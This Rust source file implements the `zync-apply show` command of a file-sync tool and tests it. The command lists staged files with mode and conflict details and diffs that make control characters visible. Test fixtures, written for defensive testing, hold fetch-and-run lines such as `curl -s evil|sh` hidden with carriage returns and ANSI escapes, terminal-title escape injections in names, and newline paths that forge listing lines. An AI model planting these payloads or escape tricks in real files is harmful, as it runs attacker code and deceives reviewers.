//! `zync-apply show`: a session's files with their action, size, state, what applying does
//! to their mode, and whether they conflict with E's files as they are now (content and mode;
//! not only as they were at staging), optionally with unified diffs.

use std::io::Write;
use std::path::Path;

use anyhow::Context;
use serde::Serialize;
use zync_cli::visible;
use zync_db::{is_conflict, Action, FileState, ModeMerge, StagedFile};
use zync_fs::RelPath;

use crate::probe::{self, Current};
use crate::roots::Roots;
use crate::session::{self, SessionJson};

/// One file as `show --json` prints it.
#[derive(Debug, Serialize)]
struct FileJson {
    dir: String,
    path: String,
    action: &'static str,
    size: u64,
    state: &'static str,
    /// Decided again against E now, content and mode; `None` when E's directory is not known.
    conflict: Option<bool>,
    /// Why the mode conflicts with E's now (E and R both changed it since R's base), when it
    /// does (a part of `conflict`).
    mode_conflict: Option<String>,
    conflict_at_staging: bool,
    sha256: Option<String>,
    base_sha256: Option<String>,
    /// The permission bits R sent, as an octal string (`"0777"`).
    mode: String,
    /// The permission bits of the version R started from, when known.
    base_mode: Option<String>,
    /// What applying does about the mode of E's file now: `"keep_e"` (R did not change it
    /// since its base: E's stays), `"take_r"` (R's), `"conflict"` (both changed it; applied
    /// only with a yes, then R's); `None` when E's directory is not known or the file is no
    /// longer staged.
    mode_decision: Option<&'static str>,
    /// The mode applying a write would give E's file (E's own when kept, else R's masked by
    /// E's umask); `None` for a deletion.
    mode_on_e: Option<String>,
    /// What E has at the path now: `"missing"`, `"file"`, or a description (a directory, a
    /// symlink and its target); `None` when E's directory is not known.
    e_has: Option<String>,
    /// The mode of E's file now, when E has a regular file there.
    e_mode: Option<String>,
    /// True when applying changes the mode of E's existing file (also with unchanged content).
    mode_change: bool,
    /// True when applying changes the content of E's existing file, creates or deletes it.
    content_change: Option<bool>,
    /// Why this is a control file (applied only with an explicit yes), or `None`.
    control: Option<&'static str>,
    /// Why the review cannot show the content applying puts on E (binary, or too large to
    /// diff; applied only with an explicit yes), or `None`.
    not_shown: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    diff: Option<String>,
}

/// The whole of `show --json`.
#[derive(Debug, Serialize)]
struct ShowJson {
    session: SessionJson,
    files: Vec<FileJson>,
}

/// What `show` prints.
#[derive(Debug, Clone, Copy, Default)]
pub struct ShowOptions {
    /// Unified diffs against E's files.
    pub diff: bool,
    /// JSON instead of text.
    pub json: bool,
    /// ANSI colours in the diffs (text output only).
    pub color: bool,
}

/// Shows session `id` (or unique prefix).
///
/// # Errors
///
/// An unknown or ambiguous session, an unusable database or mapping, or `out` fails.
pub fn show(
    db: &Path,
    id: &str,
    dirs: &[String],
    opts: ShowOptions,
    out: &mut dyn Write,
) -> anyhow::Result<()> {
    let ShowOptions { diff, json, color } = opts;
    let index = session::open_index(db)?;
    let session = session::find(&index, id)?;
    let files = index
        .staged_files(&session.id)
        .context("cannot read the session's files")?;
    let roots = Roots::resolve(dirs, &index)?;
    let session_dir = zync_db::session_dir(db, &session.id);
    let mut rows = Vec::new();
    for f in &files {
        let Checked {
            conflict,
            current,
            diff: text,
        } = check(&roots, f, diff, &session_dir);
        // What E has now decides the mode of a file still to apply; without a look at E,
        // R's mode is what a write would bring.
        let staged = f.state == FileState::Staged;
        let mode_conflict = current
            .as_ref()
            .filter(|_| staged)
            .and_then(|c| probe::mode_conflict(f, c));
        let mode_decision =
            current
                .as_ref()
                .filter(|_| staged)
                .map(|c| match probe::mode_merge(f, c) {
                    ModeMerge::KeepE => "keep_e",
                    ModeMerge::TakeR => "take_r",
                    ModeMerge::Conflict => "conflict",
                });
        let not_shown = (f.state == FileState::Staged)
            .then(|| {
                let current = current.as_ref().unwrap_or(&Current::Missing);
                probe::unshown(f, current, &session_dir)
            })
            .flatten()
            .map(probe::Unshown::why);
        let e_mode = match &current {
            Some(Current::File { mode, .. }) => Some(probe::octal(*mode)),
            _ => None,
        };
        let content_change = current.as_ref().map(|c| match (f.action, c) {
            (Action::Write, Current::File { sha256, .. }) => f.sha256.as_ref() != Some(sha256),
            (Action::Delete, Current::Missing) => false,
            _ => true,
        });
        rows.push(FileJson {
            dir: f.dir.clone(),
            path: f.path.clone(),
            action: f.action.as_str(),
            size: f.size,
            state: f.state.as_str(),
            conflict,
            mode_conflict,
            conflict_at_staging: f.conflict,
            sha256: f.sha256.clone(),
            base_sha256: f.base_sha256.clone(),
            mode: probe::octal(f.mode),
            base_mode: f
                .base_mode
                .filter(|_| f.base_sha256.is_some())
                .map(probe::octal),
            mode_decision,
            mode_on_e: (f.action == Action::Write).then(|| {
                probe::octal(match &current {
                    Some(c) => probe::mode_on_e(f, c),
                    None => zync_fs::mask_mode(f.mode),
                })
            }),
            e_has: current.as_ref().map(|c| match c {
                Current::Missing => "missing".to_owned(),
                Current::File { .. } => "file".to_owned(),
                Current::Other(what) => what.clone(),
            }),
            e_mode,
            mode_change: current
                .as_ref()
                .is_some_and(|c| probe::mode_change(f, c).is_some()),
            content_change,
            control: RelPath::parse(&f.path)
                .ok()
                .and_then(|rel| zync_fs::control_reason(&rel)),
            not_shown,
            diff: text,
        });
    }
    if json {
        let doc = ShowJson {
            session: SessionJson {
                control_files: Some(session::control_files(&files)),
                ..SessionJson::from(&session)
            },
            files: rows,
        };
        serde_json::to_writer_pretty(&mut *out, &doc)?;
        writeln!(out)?;
        return Ok(());
    }
    writeln!(out, "{}", session::line(&session))?;
    let control = session::control_files(&files);
    if control > 0 {
        writeln!(
            out,
            "  {} here: applied only when you say yes (interactively, or --force)",
            session::count(control, "control file")
        )?;
    }
    let unshown = rows.iter().filter(|r| r.not_shown.is_some()).count() as u64;
    if unshown > 0 {
        writeln!(
            out,
            "  {} whose content cannot be shown here: applied only when you say yes \
             (interactively, or --force)",
            session::count(unshown, "file")
        )?;
    }
    if rows.is_empty() {
        if session.status == zync_db::SessionStatus::Aborted {
            // Deleted when it was aborted (`Index::abort_session`): R could otherwise fill E's
            // database with sessions it never finishes.
            writeln!(
                out,
                "  (its files are not kept: a session that was aborted keeps only this line)"
            )?;
        } else {
            writeln!(out, "  (no files)")?;
        }
    }
    for r in &rows {
        let flag = match r.conflict {
            Some(true) => "  conflict",
            Some(false) => "",
            None => "  conflict unknown (dir not mapped)",
        };
        let size = match r.action {
            "delete" => String::new(),
            _ => format!("  {} bytes", r.size),
        };
        let name = visible::line(&format!("{}/{}", r.dir, r.path)).into_owned();
        let mut notes = String::new();
        match (&r.e_mode, &r.mode_on_e) {
            (Some(old), Some(new)) if r.mode_change => {
                notes.push_str(&format!("  mode {old} -> {new}"));
                if r.content_change == Some(false) {
                    notes.push_str(" (mode only)");
                }
            }
            (None, Some(new)) if r.e_has.as_deref() == Some("missing") => {
                notes.push_str(&format!("  new, mode {new}"));
            }
            // R's mode differs from E's, and E's stays: say so, as R's file says otherwise.
            (Some(kept), Some(_))
                if r.mode_decision == Some("keep_e") && kept.as_str() != r.mode.as_str() =>
            {
                notes.push_str(&format!("  keeps E's mode {kept} (R did not change it)"));
            }
            _ => {}
        }
        if let Some(why) = &r.mode_conflict {
            notes.push_str(&format!("  MODE CONFLICT: {why}"));
        }
        if let Some(what) = r
            .e_has
            .as_deref()
            .filter(|w| !matches!(*w, "missing" | "file"))
        {
            notes.push_str(&format!("  (E has {} there)", visible::line(what)));
        }
        if let Some(why) = r.control {
            notes.push_str(&format!("  CONTROL FILE: {why}"));
        }
        if let Some(why) = r.not_shown {
            notes.push_str(&format!("  NOT SHOWN: {why}"));
        }
        writeln!(
            out,
            "  {:<6}  {name}{size}  {}{flag}{notes}",
            r.action, r.state
        )?;
        if let Some(d) = &r.diff {
            if color {
                write!(out, "{}", crate::pager::colorize(d))?;
            } else {
                write!(out, "{d}")?;
            }
            if !d.ends_with('\n') {
                writeln!(out)?;
            }
        }
    }
    Ok(())
}

/// What [`check`] found about one staged file.
struct Checked {
    /// Whether it conflicts with E now; `None` when E cannot be looked at.
    conflict: Option<bool>,
    /// What E has at its path now.
    current: Option<Current>,
    /// Its diff, when asked for (hidden characters made visible).
    diff: Option<String>,
}

/// Whether `f` conflicts with E now (for files still staged; settled files report their
/// staging-time flag), what E has there, and its diff when asked for.
fn check(roots: &Roots, f: &StagedFile, diff: bool, session_dir: &Path) -> Checked {
    let name = crate::session::file_name(f);
    let unknown = |why: String| Checked {
        conflict: None,
        current: None,
        // One line: the reason may quote R's path, which may hold a newline.
        diff: diff.then(|| format!("{name}: {}\n", visible::line(&why))),
    };
    let (root, rel) = match (roots.get(&f.dir), RelPath::parse(&f.path)) {
        (Ok(root), Ok(rel)) => (root, rel),
        (Err(e), _) => return unknown(format!("{e:#}")),
        (_, Err(e)) => return unknown(e.to_string()),
    };
    let current = probe::probe(root, &rel).ok();
    let conflict = if f.state == FileState::Staged {
        current.as_ref().map(|current| {
            is_conflict(
                f.action,
                f.base_sha256.as_deref(),
                f.sha256.as_deref(),
                current.on_e(),
            ) || probe::mode_merge(f, current) == ModeMerge::Conflict
        })
    } else {
        Some(f.conflict)
    };
    Checked {
        conflict,
        current,
        diff: diff.then(|| probe::diff(root, &rel, f, session_dir)),
    }
}

#[cfg(test)]
mod tests {
    use crate::prompt::{Choice, ScriptedPrompter};
    use crate::testkit::{delete, write, Fixture};

    #[test]
    fn diff_shows_a_hunk_for_text_and_a_label_for_binary() {
        let fx = Fixture::new();
        fx.e_write("t.txt", b"one\ntwo\nthree\n");
        fx.e_write("b.bin", b"\x00\x01\x02");
        fx.e_write("gone.txt", b"bye\n");
        let id = "5h0w-0001";
        fx.stage(
            id,
            &[
                write("t.txt", b"one\n2\nthree\n", Some(b"one\ntwo\nthree\n")),
                write("b.bin", b"\x00\x01\x02\x03\x04", Some(b"\x00\x01\x02")),
                delete("gone.txt", Some(b"bye\n")),
            ],
        );
        let (r, out) = fx.run(&["show", "5h0w", "--diff"], &mut ScriptedPrompter::new([]));
        r.expect("show");
        assert!(
            out.contains("@@ -1,3 +1,3 @@") && out.contains("-two\n+2\n"),
            "{out}"
        );
        assert!(
            out.contains("docs/b.bin: binary file, 3 bytes -> 5 bytes"),
            "{out}"
        );
        assert!(out.contains("-bye\n"), "{out}");
        assert!(
            !out.contains("conflict\n") && !out.contains("  conflict"),
            "{out}"
        );
        // E changes after staging: show re-checks.
        fx.e_write("t.txt", b"edited on E\n");
        let (r, out) = fx.run(&["show", id], &mut ScriptedPrompter::new([]));
        r.expect("show");
        let line = out
            .lines()
            .find(|l| l.contains("docs/t.txt"))
            .expect("t.txt line");
        assert!(
            line.contains("write") && line.ends_with("conflict"),
            "{out}"
        );
        let (r, out) = fx.run(&["show", id, "--json"], &mut ScriptedPrompter::new([]));
        r.expect("show");
        let v: serde_json::Value = serde_json::from_str(&out).expect("json");
        assert_eq!(v["session"]["id"], id);
        assert_eq!(v["files"].as_array().expect("files").len(), 3);
    }

    #[test]
    fn color_always_marks_the_diff_and_never_or_a_pipe_leaves_it_plain() {
        let fx = Fixture::new();
        fx.e_write("t.txt", b"one\ntwo\n");
        fx.stage(
            "c0l0r-1",
            &[write("t.txt", b"one\n2\n", Some(b"one\ntwo\n"))],
        );
        let mut p = ScriptedPrompter::new([]);
        let (r, out) = fx.run(&["show", "c0l0r", "--diff", "--color", "always"], &mut p);
        r.expect("show");
        assert!(
            out.contains("\x1b[31m-two\x1b[0m") && out.contains("\x1b[32m+2\x1b[0m"),
            "expected red -two and green +2, found {out:?}"
        );
        assert!(
            out.contains("\x1b[36m@@"),
            "expected a cyan hunk header: {out:?}"
        );
        // The test's stdout is not a terminal: auto means plain, like never.
        for when in ["never", "auto"] {
            let (r, out) = fx.run(&["show", "c0l0r", "--diff", "--color", when], &mut p);
            r.expect("show");
            assert!(out.contains("-two\n+2\n"), "{out:?}");
            assert!(
                !out.contains('\x1b'),
                "--color {when}: escape codes in {out:?}"
            );
        }
    }

    #[test]
    fn prefixes_must_be_unique_and_known() {
        let fx = Fixture::new();
        fx.stage("abc-1", &[write("a", b"a", None)]);
        fx.stage("abc-2", &[write("b", b"b", None)]);
        let mut p = ScriptedPrompter::new([]);
        let err = format!(
            "{:#}",
            fx.run(&["show", "abc"], &mut p).0.expect_err("ambiguous")
        );
        assert!(
            err.contains("ambiguous") && err.contains("abc-1") && err.contains("abc-2"),
            "{err}"
        );
        let err = format!(
            "{:#}",
            fx.run(&["show", "zzz"], &mut p).0.expect_err("unknown")
        );
        assert!(
            err.contains("no session matches") && err.contains("zync-apply list --all"),
            "{err}"
        );
        let (r, out) = fx.run(&["show", "abc-2"], &mut p);
        r.expect("exact");
        assert!(out.starts_with("abc-2  staged"), "{out}");
    }

    /// Whether `out` holds a control character other than newline and tab, or any escape
    /// sequence except the colours zync itself writes (SGR `ESC [ digits m`).
    fn raw_controls(out: &str) -> Vec<String> {
        let sgr = regex_lite_free_sgr(out);
        sgr.chars()
            .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
            .map(|c| format!("{c:?}"))
            .collect()
    }

    /// `out` with zync's own colour sequences removed.
    fn regex_lite_free_sgr(out: &str) -> String {
        let mut rest = out;
        let mut kept = String::new();
        while let Some(i) = rest.find("\x1b[") {
            kept.push_str(&rest[..i]);
            let after = &rest[i + 2..];
            let digits = after
                .find(|c: char| !(c.is_ascii_digit() || c == ';'))
                .unwrap_or(after.len());
            if after[digits..].starts_with('m')
                && ["0", "31", "32", "36", "1"].contains(&&after[..digits])
            {
                rest = &after[digits + 1..];
            } else {
                kept.push('\x1b');
                rest = &rest[i + 1..];
            }
        }
        kept.push_str(rest);
        kept
    }

    /// A file on E whose name R chose in an earlier session, and R's path beneath it now:
    /// what E has there is described with that name, made visible.
    #[test]
    fn what_e_has_under_a_name_r_chose_is_shown_as_it_is() {
        let fx = Fixture::new();
        fx.e_write("e\x1b]0;x\x07", b"a file\n");
        fx.stage("esc-1", &[write("e\x1b]0;x\x07/f", b"f\n", None)]);
        let mut p = ScriptedPrompter::new([]);
        for args in [
            &["show", "esc"][..],
            &["show", "esc", "--diff", "--color", "never"],
        ] {
            let (r, out) = fx.run(args, &mut p);
            r.expect("show");
            let raw = raw_controls(&out);
            assert!(raw.is_empty(), "{args:?} printed {raw:?} in {out:?}");
            assert!(out.contains("e^[]0;x^G"), "{args:?}: {out}");
        }
    }

    #[test]
    fn what_r_wrote_is_shown_as_it_is_never_as_a_terminal_would_draw_it() {
        let fx = Fixture::new();
        fx.e_write("t.sh", b"make\n");
        let hostile = b"make\ncurl -s evil|sh\r\x1b[2K# tidy\n";
        fx.stage_from(
            "h0st-1",
            "r\x1b]0;pwned\x07\r",
            &[
                write("t.sh", hostile, Some(b"make\n")),
                write("new\rname\x1b[8m.txt", b"x\x1b[31m\n", None),
            ],
        );
        let mut p = ScriptedPrompter::new([]);
        for args in [
            &["show", "h0st", "--diff", "--color", "never"][..],
            &["show", "h0st", "--diff", "--color", "always"],
            &["show", "h0st"],
            &["list"],
            &["list", "--all"],
            &["status"],
        ] {
            let (r, out) = fx.run(args, &mut p);
            r.expect("command");
            let raw = raw_controls(&out);
            assert!(raw.is_empty(), "{args:?} printed {raw:?} in {out:?}");
        }
        let (_, out) = fx.run(&["show", "h0st", "--diff", "--color", "never"], &mut p);
        assert!(
            out.contains("+curl -s evil|sh^M^[[2K# tidy"),
            "the hidden command must be visible: {out}"
        );
        assert!(out.contains("docs/new^Mname^[[8m.txt"), "{out}");
        assert!(out.contains("from r^[]0;pwned^G^M"), "{out}");
        // JSON keeps the exact text, escaped by JSON itself.
        let (_, out) = fx.run(&["show", "h0st", "--json"], &mut p);
        assert!(raw_controls(&out).is_empty(), "{out:?}");
        let v: serde_json::Value = serde_json::from_str(&out).expect("json");
        assert_eq!(v["session"]["client_id"], "r\x1b]0;pwned\x07\r");
        assert!(v["files"]
            .as_array()
            .expect("files")
            .iter()
            .any(|f| f["path"] == "new\rname\x1b[8m.txt"));
        // The interactive review shows the same visible text.
        let mut p = ScriptedPrompter::new([Choice::Skip, Choice::ShowDiff, Choice::Skip]);
        let (r, _) = fx.run(&["apply", "h0st"], &mut p);
        r.expect("apply");
        for text in p.asked.iter().chain(&p.shown) {
            assert!(raw_controls(text).is_empty(), "{text:?}");
        }
        assert!(
            p.shown.iter().any(|t| t.contains("sh^M^[[2K")),
            "{:?}",
            p.shown
        );
    }

    #[test]
    fn a_mode_only_change_is_a_change_in_text_json_and_the_review() {
        use std::os::unix::fs::PermissionsExt;
        let fx = Fixture::new();
        fx.e_write("run.sh", b"echo hi\n");
        let path = fx.root.join("run.sh");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).expect("chmod");
        fx.stage(
            "m0de-1",
            &[write("run.sh", b"echo hi\n", Some(b"echo hi\n")).mode(0o700)],
        );
        let mut p = ScriptedPrompter::new([]);
        let (r, out) = fx.run(&["show", "m0de", "--diff"], &mut p);
        r.expect("show");
        assert!(!out.contains("no differences"), "{out}");
        assert!(
            out.contains("mode 0600 -> 0700 (mode only)")
                && out.contains("content unchanged\nold mode 0600\nnew mode 0700\n"),
            "{out}"
        );
        let (r, out) = fx.run(&["show", "m0de", "--json"], &mut p);
        r.expect("show");
        let v: serde_json::Value = serde_json::from_str(&out).expect("json");
        let f = &v["files"][0];
        assert_eq!(
            (
                &f["mode"],
                &f["mode_on_e"],
                &f["e_mode"],
                &f["mode_change"],
                &f["content_change"]
            ),
            (
                &serde_json::json!("0700"),
                &serde_json::json!("0700"),
                &serde_json::json!("0600"),
                &serde_json::json!(true),
                &serde_json::json!(false)
            ),
            "{out}"
        );
        let mut p = ScriptedPrompter::new([Choice::Skip]);
        fx.run(&["apply", "m0de"], &mut p).0.expect("apply");
        assert!(p.asked[0].contains("[mode 0600 -> 0700]"), "{:?}", p.asked);
        assert_eq!(
            std::fs::metadata(&path).expect("stat").permissions().mode() & 0o7777,
            0o600,
            "skipped: E's mode unchanged"
        );
    }

    /// The lines of `out` that follow the line `after`, up to the next line starting with
    /// `+`, `-`, space or `@`: the notes zync adds about it.
    fn notes_after<'a>(out: &'a str, after: &str) -> Vec<&'a str> {
        out.lines()
            .skip_while(|l| *l != after)
            .skip(1)
            .take_while(|l| l.starts_with('\\'))
            .collect()
    }

    /// R swaps characters for control characters that are shown the same way (a real ESC and
    /// the two characters `^[` both read `^[`): the diff still shows a change, and says where
    /// the line holds something that is not the text it looks like.
    #[test]
    fn a_byte_changed_for_one_that_looks_the_same_is_shown_as_a_change() {
        let fx = Fixture::new();
        let cases: [(&str, &[u8], &[u8]); 4] = [
            (
                "esc.py",
                b"NAME = re.compile(r'^[a-z0-9]+$')\n",
                b"NAME = re.compile(r'\x1ba-z0-9]+$')\n",
            ),
            ("cr.txt", b"a^Mb\n", b"a\rb\n"),
            ("crlf.txt", b"line^M\n", b"line\r\n"),
            (
                "rlo.txt",
                b"x = \"<U+202E>\"\n",
                "x = \"\u{202E}\"\n".as_bytes(),
            ),
        ];
        let specs: Vec<crate::testkit::Spec<'_>> = cases
            .iter()
            .map(|(path, old, new)| {
                fx.e_write(path, old);
                crate::testkit::Spec {
                    path,
                    content: Some(new),
                    base: Some(old),
                    mode: 0o644,
                    base_mode: None,
                }
            })
            .collect();
        fx.stage("1nv1s-1", &specs);
        let mut p = ScriptedPrompter::new([]);
        let (r, out) = fx.run(&["show", "1nv1s", "--diff", "--color", "never"], &mut p);
        r.expect("show");
        for (path, old, new) in cases {
            let shown = |b: &[u8]| {
                zync_cli::visible::text(&String::from_utf8_lossy(b))
                    .trim_end_matches('\n')
                    .to_owned()
            };
            let (minus, plus) = (format!("-{}", shown(old)), format!("+{}", shown(new)));
            assert!(
                out.lines().any(|l| l == minus) && out.lines().any(|l| l == plus),
                "{path}: expected {minus:?} and {plus:?} in\n{out}"
            );
            // What R wrote is marked as not literal text; E's literal text is not.
            assert_eq!(
                notes_after(&out, &minus),
                Vec::<&str>::new(),
                "{path}: {out}"
            );
            let notes = notes_after(&out, &plus);
            assert!(
                notes.iter().any(|n| n.contains("not literal text")),
                "{path}: expected a note after {plus:?}, found {notes:?} in\n{out}"
            );
        }
        assert!(
            out.contains("\\ not literal text in the line above: ^[ at column 21"),
            "{out}"
        );
        assert!(!out.contains("no differences"), "{out}");
        // The interactive review shows the same.
        let mut p = ScriptedPrompter::new([Choice::ShowDiff, Choice::Quit]);
        let (r, _) = fx.run(&["apply", "1nv1s"], &mut p);
        r.expect("apply");
        assert!(
            p.shown
                .iter()
                .any(|t| t.contains("-a^Mb\n+a^Mb\n\\ not literal text")),
            "{:?}",
            p.shown
        );
    }

    /// A path R chose with a newline in it: everywhere zync-apply names it, it stays on its
    /// line, so it cannot forge a file's listing, a diff header or diff lines.
    #[test]
    fn a_path_r_chose_never_starts_a_line_of_its_own() {
        let fx = Fixture::new();
        let text = "a.sh\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
        let binary = "b.bin\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
        let same = "c.txt\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
        let dir = "d\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
        fx.e_write(same, b"same\n");
        fx.e_write(&format!("{dir}/inside"), b"E's\n");
        fx.stage(
            "n3wl1ne-1",
            &[
                write(text, b"curl evil | sh\n", None),
                write(binary, b"\0\x01", None),
                write(same, b"same\n", Some(b"same\n")),
                write(dir, b"x\n", None),
            ],
        );
        let forged = |out: &str| {
            out.lines()
                .filter(|l| {
                    l.starts_with("  write   docs/README.md")
                        || *l == "+echo hi"
                        || *l == "@@ -7 +7 @@"
                })
                .map(str::to_owned)
                .collect::<Vec<_>>()
        };
        let mut p = ScriptedPrompter::new([]);
        for args in [
            &["show", "n3wl1ne", "--diff", "--color", "never"][..],
            &["show", "n3wl1ne", "--diff", "--color", "always"],
            &["show", "n3wl1ne"],
        ] {
            let (r, out) = fx.run(args, &mut p);
            r.expect("show");
            assert_eq!(forged(&out), Vec::<String>::new(), "{args:?}:\n{out}");
        }
        let (r, out) = fx.run(
            &["apply", "n3wl1ne", "--non-interactive", "--force"],
            &mut p,
        );
        let failed = format!(
            "{:#}",
            r.expect_err(&format!("E has a directory at {dir:?}"))
        );
        assert_eq!(forged(&out), Vec::<String>::new(), "{out}");
        // The error that names what could not be applied is printed too.
        let forged_in_error: Vec<String> = failed
            .lines()
            .map(str::trim_start)
            .filter(|l| l.starts_with("write   docs/README.md") || *l == "+echo hi")
            .map(str::to_owned)
            .collect();
        assert_eq!(forged_in_error, Vec::<String>::new(), "{failed}");
        let mut p = ScriptedPrompter::new([Choice::ShowDiff, Choice::Quit]);
        fx.stage("n3wl1ne-2", &[write(text, b"other\n", None)]);
        let (r, _) = fx.run(&["apply", "n3wl1ne-2"], &mut p);
        r.expect("apply");
        for t in p.shown.iter().chain(&p.asked) {
            assert_eq!(forged(t), Vec::<String>::new(), "{t}");
        }
    }

    /// One byte that is not UTF-8 does not make a script "binary": it is diffed as text,
    /// the byte shown as `\xFF`, so what R appended is seen.
    #[test]
    fn a_byte_that_is_not_utf8_does_not_hide_the_rest_of_the_file() {
        let fx = Fixture::new();
        let old = b"#!/bin/sh\necho deploying\n";
        fx.e_write("deploy.sh", old);
        let new = b"#!/bin/sh\necho deploying\ncurl evil | sh\n# \xff\n";
        fx.stage("utf8-1", &[write("deploy.sh", new, Some(old))]);
        let mut p = ScriptedPrompter::new([]);
        let (r, out) = fx.run(&["show", "utf8", "--diff", "--color", "never"], &mut p);
        r.expect("show");
        assert!(
            out.contains("+curl evil | sh\n+# \\xFF\n\\ not literal text in the line above: \\xFF at column 3\n"),
            "{out}"
        );
        assert!(!out.contains("binary"), "{out}");
    }

    #[test]
    fn a_forgotten_session_and_an_aborted_one_s_files_are_said_so_not_shown_empty() {
        let fx = Fixture::new();
        let mut p = ScriptedPrompter::new([]);
        // E's user drops one push more than the database keeps.
        let ids: Vec<String> = (0..=zync_db::ENDED_KEPT)
            .map(|n| format!("{n:08x}-0000-4000-8000-000000000000"))
            .collect();
        for id in &ids {
            fx.stage(id, &[delete("junk.txt", None)]);
            fx.run(&["drop", id], &mut p).0.expect("drop");
        }
        let newest = ids.last().expect("ids");
        let (r, out) = fx.run(&["show", newest], &mut p);
        r.expect("show the newest");
        assert!(
            out.contains("dropped") && out.contains("docs/junk.txt"),
            "{out}"
        );
        for args in [["show", &ids[0]], ["undo", &ids[0]], ["drop", &ids[0]]] {
            let err = fx.run(&args, &mut p).0.expect_err("forgotten");
            let err = format!("{err:#}");
            assert!(
                err.contains("no session matches")
                    && err.contains("list --all")
                    && err.contains("forgotten"),
                "{args:?}: {err}"
            );
        }

        let aborted = "abababab-0000-4000-8000-000000000000";
        let index = fx.index();
        index.create_session(aborted, "r").expect("create");
        assert!(index.abort_session(aborted).expect("abort"));
        let (r, out) = fx.run(&["show", aborted], &mut p);
        r.expect("show");
        assert!(out.contains("aborted") && out.contains("not kept"), "{out}");
    }
}
